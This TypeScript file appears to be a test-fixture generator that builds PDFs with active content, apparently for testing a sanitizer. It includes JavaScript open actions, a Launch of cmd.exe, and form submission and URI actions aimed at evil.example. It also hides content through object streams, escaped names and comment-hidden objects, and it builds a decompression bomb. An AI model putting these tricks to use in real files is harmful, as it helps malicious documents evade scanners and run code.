import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString, type PDFArray } from '@cantoo/pdf-lib'

/** Makes an agreement like one of a word processor. */
export async function makePdf({ pages = 1 } = {}): Promise<Uint8Array<ArrayBuffer>> {
  return saved(await newDocument(pages))
}

async function newDocument(pages = 1): Promise<PDFDocument> {
  const document = await PDFDocument.create()
  for (let page = 0; page < pages; page += 1) document.addPage([300, 200]).drawText(`Page ${page + 1}`)
  return document
}

/** Saves the document. If `packed`, objects are compressed in streams, where a text search does not find them. */
const saved = async (document: PDFDocument, packed = false) =>
  new Uint8Array(await document.save({ useObjectStreams: packed }))

export async function encryptedPdf(): Promise<Uint8Array<ArrayBuffer>> {
  const document = await newDocument()
  document.encrypt({ userPassword: '', ownerPassword: 'owner' })
  return saved(document)
}

type Change = (document: PDFDocument) => void

const set: (key: string, value: object) => Change = (key, value) => (document) =>
  document.catalog.set(PDFName.of(key), document.context.obj(value as never))

const script = { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }

const CHANGES = {
  'script on opening': set('OpenAction', script),
  'script of a page': (document) => document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: script })),
  'script by name': set('Names', { JavaScript: { Names: [PDFString.of('a'), script] } }),
  launch: set('OpenAction', { S: 'Launch', F: PDFString.of('cmd.exe') }),
  submit: (document) => annotate(document, { S: 'SubmitForm', F: PDFString.of('https://evil.example') }),
  'embedded file': set('Names', { EmbeddedFiles: { Names: [PDFString.of('a'), { Type: 'Filespec', EF: {} }] } }),
  'address on opening': set('OpenAction', { S: 'URI', URI: PDFString.of('https://evil.example') }),
  destination: (document) => document.catalog.set(PDFName.of('OpenAction'), toFirstPage(document)),
  'go to page': (document) =>
    document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: 'GoTo', D: toFirstPage(document) })),
  'page that is listed as a font too': (document) => {
    const { node, ref } = document.getPage(0)
    node.set(PDFName.of('AA'), document.context.obj({ O: { S: 'URI', URI: PDFString.of('https://evil.example') } }))
    document.catalog.set(PDFName.of('Resources'), document.context.obj({ Font: ref }))
  },
  'script whose kind stands elsewhere': (document) => {
    const kind = document.context.register(PDFName.of('Launch'))
    annotate(document, { S: kind, F: PDFString.of('cmd.exe') })
  },
  'places and fonts by any word': (document) => {
    const place = toFirstPage(document)
    document.catalog.set(PDFName.of('Dests'), document.context.register(document.context.obj({ AA: place, EF: place })))
    const link = { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 10, 10], Dest: 'AA' }
    document
      .getPage(0)
      .node.set(PDFName.of('Annots'), document.context.obj([link, { ...link, Dest: 'JavaScript' }] as never))
    const font = document.context.register(document.context.obj({ Type: 'Font', Subtype: 'Type1', BaseFont: 'JS' }))
    document.getPage(0).node.set(PDFName.of('Resources'), document.context.obj({ Font: { JS: font, AA: font } }))
  },
  link: (document) => annotate(document, { S: 'URI', URI: PDFString.of('https://portal.example/JavaScript/Launch') }),
} satisfies Record<string, Change>

function toFirstPage(document: PDFDocument): PDFArray {
  return document.context.obj([document.getPage(0).ref, 'Fit'])
}

function annotate(document: PDFDocument, action: Record<string, unknown>): void {
  const link = { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 10, 10], A: action }
  document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([link] as never))
}

export type PdfTrick = keyof typeof CHANGES | 'packed away' | 'spelled otherwise' | 'in no list of objects' | 'bomb'

/** Makes a PDF with active content, which it may try to hide. */
export async function activePdf(trick: PdfTrick): Promise<Uint8Array<ArrayBuffer>> {
  switch (trick) {
    case 'packed away': {
      const document = await newDocument()
      const action = document.context.register(document.context.obj(script))
      document.catalog.set(PDFName.of('OpenAction'), action)
      return saved(document, true)
    }
    case 'spelled otherwise':
      return replaced(await activePdf('launch'), '/Launch', '/L#61unch')
    case 'in no list of objects':
      // Behind a comment sign, where only a reader that uses offsets would find it.
      return replaced(
        await makePdf(),
        '\nxref',
        '\n% 99 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\nxref',
      )
    case 'bomb':
      return bomb()
    default: {
      const document = await newDocument()
      CHANGES[trick](document)
      return saved(document)
    }
  }
}

function replaced(pdf: Uint8Array, found: string, by: string): Uint8Array<ArrayBuffer> {
  const before = Buffer.from(pdf).toString('latin1')
  if (!before.includes(found)) throw new Error(`the PDF has no ${found}`)
  return new Uint8Array(Buffer.from(before.replace(found, by), 'latin1'))
}

/** Makes an object stream of 400 kB that unpacks to 400 MB. */
function bomb(): Uint8Array<ArrayBuffer> {
  const packed = deflateSync(Buffer.alloc(400_000_000), { level: 9 })
  const head = `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`
  return new Uint8Array(
    Buffer.concat([Buffer.from(head, 'latin1'), packed, Buffer.from('\nendstream\nendobj\n%%EOF\n')]),
  )
}
